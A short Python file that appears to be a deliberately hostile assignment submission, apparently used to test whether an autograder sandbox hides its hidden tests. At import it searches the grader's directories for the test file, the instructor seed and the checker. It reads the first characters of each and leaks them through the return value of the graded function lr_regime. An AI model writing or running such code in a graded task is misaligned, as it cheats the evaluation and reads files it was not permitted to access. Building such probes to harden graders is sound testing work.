# A hostile descent.py: searches the disk for the hidden tests and the grading seed, and
# reports what it could read through the only channel it has: the strings lr_regime returns.
import glob

FOUND = []
CANDIDATES = glob.glob("/autograder/source/**/*", recursive=True) + \
    glob.glob("/tmp/pytest-of-*/**/autograder/source/**/*", recursive=True)
for path in CANDIDATES:
    if path.endswith(("task_1_7.py", "instructor_seed.toml", "checks/descent.py")):
        try:
            with open(path) as fh:
                FOUND.append(path + ":" + fh.read(40))
        except OSError:
            pass


def lr_regime(lr, a):
    return ("read-ok " + " | ".join(FOUND)) if FOUND else f"read-denied ({len(CANDIDATES)} paths seen)"
